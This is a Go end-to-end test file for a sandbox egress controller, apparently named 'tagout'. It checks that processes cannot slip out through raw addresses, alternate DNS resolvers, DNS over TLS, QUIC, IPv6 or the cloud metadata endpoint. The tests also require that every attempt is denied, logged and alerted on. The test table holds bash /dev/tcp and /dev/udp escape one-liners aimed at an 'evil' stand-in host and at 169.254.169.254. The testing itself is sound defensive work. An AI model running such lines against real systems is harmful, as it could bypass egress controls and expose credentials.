package e2e

import (
	"fmt"
	"strings"
	"testing"

	"tagout/internal/audit"
	"tagout/internal/reason"
)

// TestNoWayOutButTheCard tries raw ways out of a kid (invariants 1 and 7): each fails, each is recorded with
// process and reason, each is alerted, and not one byte reaches the attacker.
func TestNoWayOutButTheCard(t *testing.T) {
	t.Parallel()
	box := start(t)
	kid := box.Spawn(card, hostile(t, box))
	evil, dns := box.Net.EvilAddr(), box.Net.DNSAddr()
	for _, way := range []struct {
		name, line string
		event      string
		code       reason.Code
	}{
		{"raw address", fmt.Sprintf("exec 3<>/dev/tcp/%v/80", evil), audit.EventConnectDenied, reason.RawAddress},
		{"raw address, allowed port", fmt.Sprintf("exec 3<>/dev/tcp/%v/443", evil), audit.EventConnectDenied, reason.RawAddress},
		{"other port", "exec 3<>/dev/tcp/api.vendor.test/8443", audit.EventConnectDenied, reason.PortNotAllowed},
		{"denied name", "exec 3<>/dev/tcp/evil.test/80", audit.EventLookup, reason.NameNotAllowed},
		{"other resolver", fmt.Sprintf("echo x >/dev/udp/%v/53", dns), audit.EventConnectDenied, reason.DNSBypass},
		{"other resolver over TCP", fmt.Sprintf("exec 3<>/dev/tcp/%v/53", dns), audit.EventConnectDenied, reason.DNSBypass},
		{"DNS over TLS", fmt.Sprintf("exec 3<>/dev/tcp/%v/853", dns), audit.EventConnectDenied, reason.DoT},
		{"QUIC", fmt.Sprintf("echo x >/dev/udp/%v/443", evil), audit.EventConnectDenied, reason.QUIC},
		{"metadata", "exec 3<>/dev/tcp/169.254.169.254/80", audit.EventConnectDenied, reason.Metadata},
		{"IPv6", "exec 3<>/dev/tcp/2001:db8::7/443", audit.EventConnectDenied, reason.IPv6},
		{"the gateway's other ports", fmt.Sprintf("exec 3<>/dev/tcp/%v/22", box.Inst.Gateway()), audit.EventConnectDenied, reason.HostAddress},
		{"right port, other name's protocol", "exec 3<>/dev/tcp/api.vendor.test/80; printf 'GET / HTTP/1.1\\r\\nHost: api.vendor.test\\r\\n\\r\\n' >&3; cat <&3; false", audit.EventConnOpened, reason.PortNotAllowed},
	} {
		t.Run(way.name, func(t *testing.T) {
			out := box.Exec(kid.Name, "/bin/bash", "-c", way.line)
			if out.Exit.Code == 0 {
				t.Fatalf("it got out: %q", out.Stdout)
			}
			rec := box.WaitRecord(way.name, func(r *audit.Record) bool {
				return r.Kid == kid.Name && r.Event == way.event && r.Reason == way.code
			})
			if rec.Outcome != audit.OutcomeDeny || rec.Process == nil || rec.Process.PID == 0 || !strings.Contains(rec.Process.Comm, "bash") {
				t.Errorf("the record does not say who was denied: %+v process %+v", rec, rec.Process)
			}
			box.WaitAlert(rec.ID)
		})
	}
	if _, n := box.Net.Attacker.Total(); n != 0 {
		t.Errorf("%d bytes reached the attacker", n)
	}
	if n := box.Net.DNS.Count("evil.test"); n != 0 {
		t.Errorf("%d queries for a denied name left the box", n)
	}
}

// TestTheCardsRoadWorks shows that what the card allows works, so that the denials above mean something.
func TestTheCardsRoadWorks(t *testing.T) {
	t.Parallel()
	box := start(t)
	kid := box.Spawn(card, hostile(t, box))
	out := box.Exec(kid.Name, "/bin/bash", "-c", "exec 3<>/dev/tcp/files.vendor.test/80; printf 'GET /hello.txt HTTP/1.1\\r\\nHost: files.vendor.test\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3")
	if !strings.HasPrefix(out.Stdout, "HTTP/1.1 200") {
		t.Errorf("plain HTTP: %q %q", out.Stdout, out.Stderr)
	}
	rec := box.WaitRecord("the closed connection", func(r *audit.Record) bool {
		return r.Kid == kid.Name && r.Event == audit.EventConnClosed && r.Dst != nil && r.Dst.Name == "files.vendor.test"
	})
	if rec.Bytes == nil || rec.Bytes.Up == 0 || rec.Bytes.Down == 0 || rec.Mark != kid.Mark {
		t.Errorf("the record does not count: %+v bytes %+v", rec, rec.Bytes)
	}
	if out := box.Exec(kid.Name, "/bin/bash", "-c", "exec 3<>/dev/tcp/ticks.vendor.test/7000 && echo hello >&3"); out.Exit.Code != 0 {
		t.Errorf("plain TCP: %q", out.Stderr)
	}
}

// TestEmptyCardReachesNothing: no egress section means no egress (invariant 1).
func TestEmptyCardReachesNothing(t *testing.T) {
	t.Parallel()
	box := start(t)
	kid := box.Spawn(bareCard, nil)
	for _, line := range []string{
		"exec 3<>/dev/tcp/api.vendor.test/443", "exec 3<>/dev/tcp/files.vendor.test/80",
		fmt.Sprintf("exec 3<>/dev/tcp/%v/80", box.Net.FilesAddr()),
	} {
		if out := box.Exec(kid.Name, "/bin/bash", "-c", line); out.Exit.Code == 0 {
			t.Errorf("%q got out", line)
		}
	}
}
